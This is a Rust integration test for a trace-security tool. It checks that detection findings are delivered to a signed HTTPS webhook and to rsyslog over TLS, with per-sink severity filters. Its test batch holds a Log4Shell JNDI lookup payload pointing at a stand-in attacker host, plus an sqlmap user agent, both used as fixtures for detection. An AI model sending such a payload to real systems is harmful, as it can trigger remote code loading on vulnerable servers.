//! Finding sinks against real receivers (issue 7): an HTTPS webhook whose receiver (Python's
//! `ssl` and `hmac`, independent of the server's code) verifies HMAC-SHA256 over the timestamp
//! and the body and answers the first request 503 (the sender retries), and rsyslog receiving
//! RFC 5424 messages over TLS (RFC 5425, `imtcp` with the gtls driver). Each sink has its own
//! severity filter.
//!
//! Needs `TRACEVAULT_PYTHON` and `rsyslogd` with its gtls module (scripts/test installs both);
//! outside CI a missing one skips the test loudly, under `CI=true` it fails.

mod common;

use std::io::BufRead;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use common::*;
use prost::Message;
use tv_model::otlp::*;

struct Kill(Child);
impl Drop for Kill {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

fn needed() -> Option<(String, PathBuf)> {
    let py = std::env::var("TRACEVAULT_PYTHON")
        .ok()
        .filter(|p| Path::new(p).exists());
    let rsyslogd = ["/usr/sbin/rsyslogd", "/sbin/rsyslogd"]
        .iter()
        .map(PathBuf::from)
        .find(|p| p.exists());
    match (py, rsyslogd) {
        (Some(p), Some(r)) => Some((p, r)),
        (p, r) => {
            let what = format!(
                "TRACEVAULT_PYTHON {} / rsyslogd {}",
                if p.is_some() { "found" } else { "missing" },
                if r.is_some() { "found" } else { "missing" }
            );
            assert!(
                std::env::var("CI").as_deref() != Ok("true"),
                "{what} under CI=true: run the suite via scripts/test"
            );
            eprintln!("SKIPPED: {what} (scripts/test installs them)");
            None
        }
    }
}

fn free_port() -> u16 {
    std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port()
}

fn wait_port(port: u16, child: &mut Child, what: &str) {
    let deadline = Instant::now() + Duration::from_secs(20);
    while Instant::now() < deadline {
        if std::net::TcpStream::connect(("127.0.0.1", port)).is_ok() {
            return;
        }
        if let Ok(Some(st)) = child.try_wait() {
            panic!("{what} exited with {st}");
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    panic!("{what} did not listen on {port}");
}

fn start_rsyslog(rsyslogd: &Path, dir: &Path, tls: &Path, port: u16) -> Kill {
    std::fs::create_dir_all(dir).unwrap();
    let conf = dir.join("rsyslog.conf");
    std::fs::write(
        &conf,
        format!(
            r#"global(workDirectory="{d}" maxMessageSize="64k"
  DefaultNetstreamDriver="gtls"
  DefaultNetstreamDriverCAFile="{t}/ca.pem"
  DefaultNetstreamDriverCertFile="{t}/server.pem"
  DefaultNetstreamDriverKeyFile="{t}/server.key")
module(load="imtcp" StreamDriver.Name="gtls" StreamDriver.Mode="1" StreamDriver.AuthMode="anon")
input(type="imtcp" port="{port}" address="127.0.0.1")
action(type="omfile" file="{d}/received.log" template="RSYSLOG_SyslogProtocol23Format")
"#,
            d = dir.display(),
            t = tls.display(),
        ),
    )
    .unwrap();
    let mut child = Command::new(rsyslogd)
        .arg("-n")
        .arg("-f")
        .arg(&conf)
        .arg("-i")
        .arg(dir.join("rsyslogd.pid"))
        .stdout(Stdio::null())
        .stderr(Stdio::inherit())
        .spawn()
        .expect("start rsyslogd");
    wait_port(port, &mut child, "rsyslogd");
    Kill(child)
}

fn attack_batch() -> ExportTraceServiceRequest {
    let now = now_nanos();
    let tid = random_id::<16>();
    let span = |name: &str, attrs: Vec<KeyValue>| Span {
        trace_id: tid.to_vec(),
        span_id: random_id::<8>().to_vec(),
        name: name.into(),
        kind: 2,
        start_time_unix_nano: now - 1_000_000,
        end_time_unix_nano: now,
        attributes: attrs,
        ..Default::default()
    };
    ExportTraceServiceRequest {
        resource_spans: vec![ResourceSpans {
            resource: Some(Resource {
                attributes: vec![kv("service.name", sv("shop"))],
                ..Default::default()
            }),
            scope_spans: vec![ScopeSpans {
                spans: vec![
                    // critical
                    span(
                        "GET /",
                        vec![kv(
                            "user_agent.original",
                            sv("${jndi:ldap://marker-evil.example/x}"),
                        )],
                    ),
                    // medium only: a scanner's user agent
                    span(
                        "GET /robots.txt",
                        vec![kv(
                            "user_agent.original",
                            sv("sqlmap/1.7.2#stable (https://sqlmap.org)"),
                        )],
                    ),
                ],
                ..Default::default()
            }],
            ..Default::default()
        }],
    }
}

fn lines_until(path: &Path, done: impl Fn(&[String]) -> bool) -> Vec<String> {
    let deadline = Instant::now() + Duration::from_secs(30);
    loop {
        let lines: Vec<String> = std::fs::File::open(path)
            .map(|f| {
                std::io::BufReader::new(f)
                    .lines()
                    .map_while(Result::ok)
                    .collect()
            })
            .unwrap_or_default();
        if done(&lines) || Instant::now() > deadline {
            return lines;
        }
        std::thread::sleep(Duration::from_millis(100));
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn findings_reach_a_signed_webhook_and_rsyslog_over_tls() {
    let Some((python, rsyslogd)) = needed() else {
        return;
    };
    let tmp = tempfile::tempdir().unwrap();
    let work = tmp.path().join("receivers");
    std::fs::create_dir_all(&work).unwrap();
    // The first start makes the data directory's CA and a certificate for 127.0.0.1, which the
    // receivers use as theirs.
    let (mut srv, cfg) = start_with_config(tmp, "version = 1\n", &[]);
    let tls = srv.dir.join("tls");
    let secret = work.join("webhook.secret");
    std::fs::write(&secret, hex::encode(random_id::<32>())).unwrap();
    let hook_out = work.join("webhook.jsonl");
    let hook_port = free_port();
    let mut hook = Command::new(&python)
        .arg(concat!(
            env!("CARGO_MANIFEST_DIR"),
            "/../../tests/python/webhook_receiver.py"
        ))
        .arg(hook_port.to_string())
        .arg(tls.join("server.pem"))
        .arg(tls.join("server.key"))
        .arg(&secret)
        .arg(&hook_out)
        .stdout(Stdio::null())
        .spawn()
        .unwrap();
    wait_port(hook_port, &mut hook, "webhook receiver");
    let _hook = Kill(hook);
    let syslog_port = free_port();
    let syslog_dir = work.join("rsyslog");
    let _rsyslog = start_rsyslog(&rsyslogd, &syslog_dir, &tls, syslog_port);

    std::fs::write(
        &cfg,
        format!(
            r#"version = 1
[[detection.sinks]]
kind = "webhook"
url = "https://127.0.0.1:{hook_port}/findings"
secret_file = "{secret}"
ca_file = "{ca}"
min_severity = "high"

[[detection.sinks]]
kind = "syslog"
address = "127.0.0.1:{syslog_port}"
ca_file = "{ca}"
min_severity = "medium"
hostname = "tv-test"
"#,
            secret = secret.display(),
            ca = tls.join("ca.pem").display(),
        ),
    )
    .unwrap();
    srv.restart();
    let r = srv
        .post_otlp("application/x-protobuf", attack_batch().encode_to_vec())
        .await;
    assert_eq!(r.status(), 200);

    // Webhook: 503 first, then the retry is accepted; every request verified by the receiver.
    let lines = lines_until(&hook_out, |l| {
        l.iter().any(|x| x.contains("\"status\": 200"))
    });
    let reqs: Vec<serde_json::Value> = lines
        .iter()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert!(reqs.len() >= 2, "{reqs:?}");
    assert_eq!(reqs[0]["status"], 503);
    assert!(
        reqs.iter().all(|r| r["verified"] == true),
        "the receiver could not verify a signature: {reqs:?}"
    );
    let delivered: Vec<serde_json::Value> = reqs
        .iter()
        .filter(|r| r["status"] == 200)
        .map(|r| serde_json::from_str(r["body"].as_str().unwrap()).unwrap())
        .collect();
    assert!(delivered.iter().all(|f| f["class_uid"] == 2004));
    assert!(
        delivered
            .iter()
            .all(|f| f["severity_id"].as_u64().unwrap() >= 4),
        "the webhook's min_severity = high let a lower finding through"
    );
    assert!(
        delivered
            .iter()
            .any(|f| f["finding_info"]["analytic"]["uid"] == "tv-log4shell-lookup")
    );
    assert!(
        !lines.join("\n").contains("marker-evil"),
        "raw value sent to the webhook"
    );

    // rsyslog: RFC 5424 with our structured data, medium and up.
    let got = lines_until(&syslog_dir.join("received.log"), |l| {
        l.iter().any(|x| x.contains("tv-scanner-user-agent"))
            && l.iter().any(|x| x.contains("tv-log4shell-lookup"))
    });
    let text = got.join("\n");
    assert!(
        text.contains("tv-test tracevault - finding [tracevault@32473 "),
        "{text}"
    );
    assert!(text.contains("rule=\"tv-log4shell-lookup\""), "{text}");
    assert!(text.contains("rule=\"tv-scanner-user-agent\""), "{text}");
    assert!(!text.contains("marker-evil"), "raw value sent to syslog");
    let log4shell = got
        .iter()
        .find(|l| l.contains("tv-log4shell-lookup"))
        .unwrap();
    // Facility 10, severity 2 (critical).
    assert!(log4shell.starts_with("<82>1 "), "{log4shell}");
    let json = log4shell
        .split_once('{')
        .map(|(_, j)| format!("{{{j}"))
        .unwrap();
    let v: serde_json::Value = serde_json::from_str(&json).unwrap();
    assert_eq!(v["class_uid"], 2004);

    let metrics = srv.get("/metrics").await.text().await.unwrap();
    assert!(
        metrics
            .contains("tracevault_sink_deliveries_total{sink=\"webhook#0\",result=\"delivered\"}"),
        "{metrics}"
    );
}
